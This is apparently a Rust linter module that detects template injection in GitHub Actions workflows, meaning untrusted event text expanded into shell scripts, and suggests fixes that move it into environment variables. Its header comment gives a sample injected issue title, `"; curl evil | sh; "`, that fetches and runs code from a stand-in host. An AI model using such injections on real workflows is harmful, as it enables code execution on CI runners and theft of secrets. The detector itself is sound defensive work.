//! Others' words put into a script before the shell reads it.
//!
//! `${{ }}` in `run:` is replaced first and read by the shell afterwards: an issue titled `"; curl evil | sh; "` runs.
//! In an environment variable the same text stays a text. The same holds for inputs of actions that run what they are
//! given, as `script` of `actions/github-script`. Followed through `env`, `matrix`, job outputs and what steps write to
//! `$GITHUB_OUTPUT`. zizmor: template-injection; GitHub's list of untrusted input; CodeQL's sinks.
//!
//! Bad: `run: echo "${{ github.event.issue.title }}"`.
//! Good: `run: echo "$TITLE"` with `env: {TITLE: "${{ github.event.issue.title }}"}`.

use base::Span;

use super::*;
use crate::lint::document::is_expression;
use crate::lint::located::Located;
use crate::lint::shell::Quoting;
use taint::Choice;

pub(super) const AUDIT: Audit = Audit { id: "template-injection", summary: "others' words put into a script", run };

/// Actions that run what this input says.
const SINKS: &[(&str, &[&str])] = &[
    ("8398a7/action-slack", &["custom_payload"]),
    ("actions/github-script", &["script"]),
    ("addnab/docker-run-action", &["options", "run"]),
    ("amadevus/pwsh-script", &["script"]),
    ("appleboy/ssh-action", &["script"]),
    ("azure/cli", &["inlineScript"]),
    ("azure/powershell", &["inlineScript"]),
    ("cardinalby/js-eval-action", &["expression"]),
    ("devorbitus/yq-action-output", &["cmd"]),
    ("gautamkrishnar/blog-post-workflow", &["item_exec"]),
    ("imjohnbo/issue-bot", &["body", "linked-comments-previous-issue-text", "linked-comments-new-issue-text"]),
    ("jannekem/run-python-script-action", &["script"]),
    ("lucasbento/auto-close-issues", &["issue-close-message"]),
    ("mikefarah/yq", &["cmd"]),
    ("roots/issue-closer-action", &["issue-close-message", "pr-close-message"]),
    ("sergeysova/jq-action", &["cmd"]),
    ("skitionek/notify-microsoft-teams", &["overwrite"]),
    ("tibdex/backport", &["body_template", "head_template", "labels_template", "title_template"]),
];

fn run(document: &Document, report: &mut Report) {
    let reached = taint::is_reached_by_outsiders(document);
    for step in document.steps() {
        for node in scripts(&step) {
            for found in document.fenced(node.written()) {
                let mut said = false;
                for context in fenced::flowing(found.root()) {
                    if let Some(verdict) = judge(document, &step, &context) {
                        said = true;
                        report.add(finding(document, &step, node, &found, &context, verdict, reached));
                    }
                }
                if !said {
                    report.add(harmless(&step, &found));
                }
            }
        }
    }
}

fn scripts<'a>(step: &Step<'a>) -> Vec<&'a Node> {
    if let Some(run) = step.run() {
        return vec![run];
    }
    let Some((action, _)) = step.action() else { return Vec::new() };
    let inputs = SINKS.iter().filter(|(name, _)| action.is(name)).flat_map(|(_, inputs)| *inputs);
    inputs.filter_map(|input| step.input(input)).filter(|node| node.as_str().is_some()).collect()
}

#[derive(Debug, Clone, Copy)]
struct Verdict {
    severity: Severity,
    confidence: Confidence,
    persona: Persona,
    outsider: bool,
}

/// How bad a context is in a script; nothing for what can't be anything bad.
fn judge(document: &Document, step: &Step, context: &Context) -> Option<Verdict> {
    let verdict = |severity, confidence, persona| Some(Verdict { severity, confidence, persona, outsider: false });
    let by_choice = |taint: taint::Taint| match taint.choice {
        Choice::Fixed => verdict(Severity::Low, Confidence::High, Persona::Pedantic),
        Choice::Structured => verdict(Severity::Medium, Confidence::High, Persona::Regular),
        Choice::Arbitrary => {
            Some(Verdict { severity: Severity::High, confidence: Confidence::High, persona: Persona::Regular, outsider: taint.outsider })
        }
    };
    match context.key(0)?.to_ascii_lowercase().as_str() {
        "github" | "runner" => by_choice(taint::of_event(context)?),
        "secrets" => None,
        "needs" if context.is("needs.*.result") => None,
        "steps" if context.is("steps.*.outcome") || context.is("steps.*.conclusion") => None,
        // A caller of this repository gives it what an outsider chose.
        "inputs" if taint::of_context(document, context, Some(step)).is_some() => {
            by_choice(taint::of_context(document, context, Some(step))?)
        }
        "inputs" => match input(document, context) {
            Some(Choice::Fixed) => verdict(Severity::Low, Confidence::High, Persona::Pedantic),
            Some(_) => verdict(Severity::High, Confidence::High, Persona::Regular),
            None => verdict(Severity::Low, Confidence::Low, Persona::Regular),
        },
        "env" => match taint::of_context(document, context, Some(step)).filter(|taint| taint.choice > Choice::Fixed) {
            Some(taint) => by_choice(taint),
            None if is_static(document, step, context) => verdict(Severity::Low, Confidence::High, Persona::Pedantic),
            None => verdict(Severity::Low, Confidence::High, Persona::Regular),
        },
        "matrix" => {
            let matrix = step.job.and_then(|job| job.matrix())?;
            match taint::of_context(document, context, Some(step)).filter(|taint| taint.choice > Choice::Fixed) {
                Some(taint) => by_choice(taint),
                None if is_written_out(document, matrix, context) => None,
                None => verdict(Severity::Medium, Confidence::Medium, Persona::Regular),
            }
        }
        _ => match taint::of_context(document, context, Some(step)).filter(|taint| taint.choice > Choice::Fixed) {
            Some(taint) => by_choice(taint),
            None => verdict(Severity::Informational, Confidence::Low, Persona::Regular),
        },
    }
}

/// What an input may be, by its declaration; an action's inputs have no types.
fn input(document: &Document, context: &Context) -> Option<Choice> {
    let name = context.key(1)?;
    if document.kind == crate::lint::Kind::Action {
        return Some(Choice::Arbitrary);
    }
    let declared =
        ["workflow_call", "workflow_dispatch"].into_iter().filter_map(|event| document.trigger(event)?.config?.get("inputs")?.get(name));
    let choices = declared.map(|input| match input.get("type").and_then(Node::as_str) {
        Some("boolean" | "choice" | "environment" | "number") => Choice::Fixed,
        _ => Choice::Arbitrary,
    });
    choices.max()
}

/// Set in the file, without an expression, or by every runner.
fn is_static(document: &Document, step: &Step, context: &Context) -> bool {
    let Some(name) = context.key(1) else { return false };
    match taint::variable(document, Some(step), name) {
        Some(node) => document.fenced(node.written()).is_empty(),
        None => ["GITHUB_", "RUNNER_"].iter().any(|runners| name.starts_with(runners)),
    }
}

/// Whether all that the name can stand for is written in the file.
fn is_written_out(document: &Document, matrix: &Node, context: &Context) -> bool {
    if is_expression(matrix.as_str().unwrap_or_default().trim()) {
        return false;
    }
    let Some(name) = context.key(1) else { return false };
    let whole = |key: &str| matrix.get(key).is_some_and(|node| node.as_str().is_some());
    if whole(name) || (matrix.get(name).is_none() && whole("include")) {
        return false;
    }
    taint::matrix_values(matrix, context).iter().all(|node| document.fenced(node.written()).is_empty())
}

fn finding(
    document: &Document,
    step: &Step,
    node: &Node,
    found: &fenced::Fenced,
    context: &Context,
    verdict: Verdict,
    reached: bool,
) -> Finding {
    let what = context.text();
    let holds = verdict.outsider && reached;
    let message = match (holds, verdict.severity) {
        (true, _) => format!("anybody can choose what `{what}` says, and here it is put into a script before that is read"),
        (false, Severity::High) => format!("whoever chooses what `{what}` says can put commands into this script"),
        _ => format!("`{what}` is put into this script before that is read, so whatever it says is code"),
    };
    let hint = if node.span == step.run().map_or(Span::default(), |run| run.span) {
        "set a variable in `env:` and use that; what a variable says stays a text"
    } else {
        "set a variable in `env:` and read it in the code (`process.env.NAME`); what a variable says stays a text"
    };
    let through = context.starts("env").then(|| taint::variable(document, Some(step), context.key(1)?)).flatten();
    let mut finding = Finding::new(&AUDIT, verdict.severity, verdict.confidence, found.place(context.span), message)
        .persona(verdict.persona)
        .hint(hint)
        .scope(step.span())
        .scope(found.span)
        .holds(holds)
        .fix(fix(document, step, node, found));
    if let Some(variable) = through.filter(|node| !document.fenced(node.written()).is_empty()) {
        finding = finding.label(variable.span, "it is set here");
    }
    finding
}

/// Any expression in a script is unusual.
fn harmless(step: &Step, found: &fenced::Fenced) -> Finding {
    let message = "an expression in a script is code there; in a variable it would stay a text";
    Finding::new(&AUDIT, Severity::Low, Confidence::High, found.span, message)
        .persona(Persona::Pedantic)
        .scope(step.span())
        .scope(found.span)
}

/// Longer scripts than this are left to people: each fix takes a look through the whole of it.
const FIXABLE_MAX: usize = 16 * 1024;

/// A variable in place of the expression, where the shell is Bourne's and quotes mean the same before and after.
fn fix(document: &Document, step: &Step, node: &Node, found: &fenced::Fenced) -> Option<Fix> {
    step.run()?;
    let (shell, _) = step.shell(document)?;
    if !matches!(shell.as_str(), "bash" | "sh") {
        return None;
    }
    if node.written().end - node.written().start > FIXABLE_MAX || !document.may_edit() {
        return None;
    }
    // What an alias repeats is written once, and other steps don't have the variable.
    if node.written() != node.span || is_anchored(document, node) {
        return None;
    }
    let context = Context::of(found.root())?;
    let located = document.located(node)?;
    let written = document.source.text.get(found.span.start..found.span.end)?;
    let at = position(&located, written, found.span)?;
    let inside = match shell::quoting(&located.text, at) {
        Quoting::Double => true,
        // Unquoted words may be meant to be several; what the event says never is.
        Quoting::None if context.starts("github") && is_whole_word(&located.text, at, written.len()) => false,
        _ => return None,
    };
    let (name, is_new) = variable_name(document, step, &context, &located.text)?;
    let text = if inside { format!("${{{name}}}") } else { format!("\"${{{name}}}\"") };
    // In a plain or quoted scalar a quote or a brace could change what YAML reads.
    let is_block = document.source.text[node.span.start..].starts_with(['|', '>']);
    let plain = !document.source.text[node.span.start..].starts_with(['"', '\'']);
    let is_safe = is_block || (plain && node.span.start < found.span.start);
    if !is_safe {
        return None;
    }
    let mut edits = vec![Edit { span: found.span, text }];
    if is_new {
        edits.push(edit::set(document, step, "env", &name, written)?);
    }
    Some(Fix { title: format!("use the variable `{name}`"), edits })
}

fn is_anchored(document: &Document, node: &Node) -> bool {
    let before = document.source.text[..node.span.start].trim_end();
    before.rsplit(char::is_whitespace).next().is_some_and(|word| word.starts_with('&'))
}

/// Where in the script the expression at this place of the file stands.
fn position(located: &Located, written: &str, place: Span) -> Option<usize> {
    let same = |at: usize| located.place(Span::new(at, at + written.len())) == place;
    located.text.match_indices(written).map(|(at, _)| at).find(|at| same(*at))
}

fn is_whole_word(script: &str, at: usize, length: usize) -> bool {
    let ends = |letter: Option<char>| letter.is_none_or(|letter| letter.is_whitespace() || ";&|)".contains(letter));
    let begins = |letter: Option<char>| letter.is_none_or(|letter| letter.is_whitespace() || letter == '=');
    begins(script[..at].chars().next_back()) && ends(script[at + length..].chars().next())
}

/// The variable for a context and whether it has to be made; nothing where its name is taken.
fn variable_name(document: &Document, step: &Step, context: &Context, script: &str) -> Option<(String, bool)> {
    let keys: Vec<&str> = (0..context.segments.len()).map(|at| context.key(at)).collect::<Option<_>>()?;
    let name = match keys.as_slice() {
        ["env", name] => return Some(((*name).to_owned(), false)),
        ["github", "event", below @ ..] if !below.is_empty() => below.join("_"),
        ["github", name] if RUNNERS_OWN.contains(name) => return Some((format!("GITHUB_{}", name.to_uppercase()), false)),
        [_, below @ ..] if !below.is_empty() => below.join("_"),
        _ => return None,
    };
    let name: String = name.to_uppercase().chars().map(|letter| if letter.is_ascii_alphanumeric() { letter } else { '_' }).collect();
    let set = taint::variable(document, Some(step), &name);
    let legal = name.starts_with(|letter: char| letter.is_ascii_alphabetic());
    let reserved =
        ["GITHUB_", "RUNNER_", "ACTIONS_"].iter().any(|beginning| name.starts_with(beginning)) || RESERVED.contains(&name.as_str());
    let taken = set.is_some() || (script.contains(&name) && names_it(script, &name));
    (legal && !reserved && !taken).then_some((name, true))
}

/// Contexts that every runner also sets as variables.
const RUNNERS_OWN: &[&str] = &[
    "actor",
    "base_ref",
    "event_name",
    "head_ref",
    "job",
    "ref",
    "ref_name",
    "ref_type",
    "repository",
    "repository_owner",
    "run_id",
    "run_number",
    "run_attempt",
    "sha",
    "triggering_actor",
    "workflow",
];

/// Variables that mean something to the shell.
const RESERVED: &[&str] = &["PATH", "HOME", "USER", "SHELL", "IFS", "PWD", "ENV", "LANG", "CI", "TERM", "UID", "HOSTNAME", "PS1"];

fn names_it(script: &str, name: &str) -> bool {
    script.match_indices(name).any(|(at, _)| {
        let before = script[..at].chars().next_back();
        let after = script[at + name.len()..].chars().next();
        let is_word = |letter: Option<char>| letter.is_some_and(|letter| letter.is_ascii_alphanumeric() || letter == '_');
        !is_word(before) && !is_word(after)
    })
}
